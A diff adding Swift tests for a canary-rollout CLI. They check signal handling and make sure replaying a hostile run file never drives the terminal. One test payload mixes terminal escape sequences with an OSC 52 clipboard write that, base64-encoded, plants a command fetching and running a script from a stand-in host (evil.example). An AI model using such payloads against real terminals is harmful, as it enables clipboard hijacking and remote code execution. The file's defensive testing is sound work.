@@ -1,0 +1,102 @@
+import Foundation
+import Testing
+@testable import RampartCore
+
+/// Every way a user or the system ends a headless run puts traffic back on the baseline, records
+/// the decision and exits 3: SIGTERM, SIGHUP (a closed terminal, a dropped ssh session) and two
+/// Ctrl-C in a row, the second of which once exited at once with the flag left at 10 %.
+struct SignalTests {
+    static func flagWeight(_ path: String) -> Double? {
+        guard let data = FileManager.default.contents(atPath: path),
+            let o = try? JSONSerialization.jsonObject(with: data) as? [String: Any]
+        else { return nil }
+        return (o["canary_weight"] as? NSNumber)?.doubleValue
+    }
+
+    @Test(arguments: [[SIGTERM], [SIGHUP], [SIGINT, SIGINT]])
+    func aSignalMidCanaryPutsTrafficBackAndRecordsIt(_ signals: [Int32]) async throws {
+        let dir = CLI.temporaryDirectory()
+        let examples = CLI.repository + "/examples"
+        let spec = """
+            format: 1
+            name: signalled
+            baseline: { provider: sim, model: m, version: "1.0" }
+            candidate: { provider: sim, model: m, version: "1.1" }
+            canary:
+              router: { kind: file, path: flags.json }
+              traffic: { source: sim, rate: 20, dataset: \(examples)/datasets/golden.jsonl }
+              steps:
+                - { weight: 10, bake: 1h }
+              metrics:
+                - { metric: error_rate, max_increase: 0.05 }
+            """
+        try spec.write(toFile: dir + "/spec.yaml", atomically: true, encoding: .utf8)
+        let p = Process()
+        p.executableURL = URL(fileURLWithPath: CLI.binary)
+        p.arguments = ["run", "spec.yaml", "--headless", "--no-cache", "--record", "run.jsonl"]
+        p.currentDirectoryURL = URL(fileURLWithPath: dir)
+        var env = ProcessInfo.processInfo.environment
+        env["SWIFT_BACKTRACE"] = "enable=no"
+        p.environment = env
+        p.standardOutput = FileHandle.nullDevice
+        p.standardError = FileHandle.nullDevice
+        p.standardInput = FileHandle.nullDevice
+        try p.run()
+        // Readiness: the router has sent 10 % to the candidate.
+        for _ in 0..<1200 where Self.flagWeight(dir + "/flags.json") != 10 { try await Task.sleep(for: .milliseconds(100)) }
+        #expect(Self.flagWeight(dir + "/flags.json") == 10)
+        for sig in signals { kill(p.processIdentifier, sig) }
+        await withCheckedContinuation { (c: CheckedContinuation<Void, Never>) in
+            DispatchQueue.global().async { p.waitUntilExit(); c.resume() }
+        }
+        #expect(p.terminationReason == .exit && p.terminationStatus == 3, "\(p.terminationReason) \(p.terminationStatus)")
+        #expect(Self.flagWeight(dir + "/flags.json") == 0, "traffic is back on the baseline")
+        let recording = try RunFileCodec.read(file: dir + "/run.jsonl")
+        #expect(recording.outcome?.outcome == .aborted)
+        let why = signals[0] == SIGHUP ? "SIGHUP" : (signals[0] == SIGTERM ? "SIGTERM" : "SIGINT")
+        #expect(recording.outcome?.reason.contains(why) == true, "\(recording.outcome?.reason ?? "")")
+    }
+}
+
+/// A run file is input from outside: replaying a hostile one must not drive the terminal.
+struct HostileReplayTests {
+    @Test func escapeSequencesInARunFileNeverReachTheTerminal() async throws {
+        let dir = CLI.temporaryDirectory()
+        let sample = try String(contentsOfFile: CLI.repository + "/sample-runs/operator-rollback.jsonl", encoding: .utf8)
+        // Window title, OSC 52 clipboard write, clear screen, a bell, right-to-left override, C1 CSI.
+        let payload = #"\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007\u001b[2J\u001b[H\u0007\u202eevil\u009b31m"#
+        let hostile = sample
+            .replacingOccurrences(of: "support tickets about wrong refund amounts are spiking", with: "spiking " + payload)
+            .replacingOccurrences(of: #""grace""#, with: #""grace\#(payload)""#)
+        try hostile.write(toFile: dir + "/hostile.jsonl", atomically: true, encoding: .utf8)
+        let r = try await CLI.run(["replay", "hostile.jsonl", "--headless"], in: dir)
+        #expect(r.status == 2)
+        let bytes = Array((r.stdout + r.stderr).utf8)
+        #expect(!bytes.contains(0x1B), "no ESC reaches the terminal")
+        #expect(!bytes.contains(0x07), "no BEL")
+        #expect(!(r.stdout + r.stderr).unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x9B })
+        #expect(!r.stdout.contains("]52;") && !r.stdout.contains("]0;pwned"), "the sequences are removed whole, not just their ESC")
+        #expect(r.stdout.contains("spiking evil"), "the readable text stays")
+        let show = try await CLI.run(["runs", "show", "hostile.jsonl"], in: dir)
+        #expect(!Array((show.stdout + show.stderr).utf8).contains(0x1B))
+    }
+
+    @Test func absurdTimesAndIndicesInARunFileAreShownNotCrashedOn() async throws {
+        let dir = CLI.temporaryDirectory()
+        let sample = try String(contentsOfFile: CLI.repository + "/sample-runs/operator-rollback.jsonl", encoding: .utf8)
+        var lines = sample.split(separator: "\n").map(String.init)
+        // An event at t = 1e19, a quality index far out of range, an outcome at t = 1e300.
+        if let i = lines.firstIndex(where: { $0.contains(#""event":"weight""#) }) {
+            lines[i] = lines[i].replacingOccurrences(of: #""t":"#, with: #""t":1e19,"x":"#)
+        }
+        if let i = lines.firstIndex(where: { $0.contains(#""quality":[["#) }) {
+            lines[i] = lines[i].replacingOccurrences(of: #""quality":[["#, with: #""quality":[[1e300,0.5],[-4,0.5],["#)
+        }
+        lines[lines.count - 1] = lines[lines.count - 1].replacingOccurrences(of: #""t":"#, with: #""t":1e300,"y":"#)
+        try lines.joined(separator: "\n").appending("\n").write(toFile: dir + "/absurd.jsonl", atomically: true, encoding: .utf8)
+        for args in [["replay", "absurd.jsonl", "--headless"], ["runs", "show", "absurd.jsonl"], ["replay", "absurd.jsonl", "--judge", CLI.repository + "/examples/demo.yaml"]] {
+            let r = try await CLI.run(args, in: dir)
+            #expect(r.status < 128, "\(args): exit \(r.status) \(r.stderr.suffix(300))")
+        }
+    }
+}
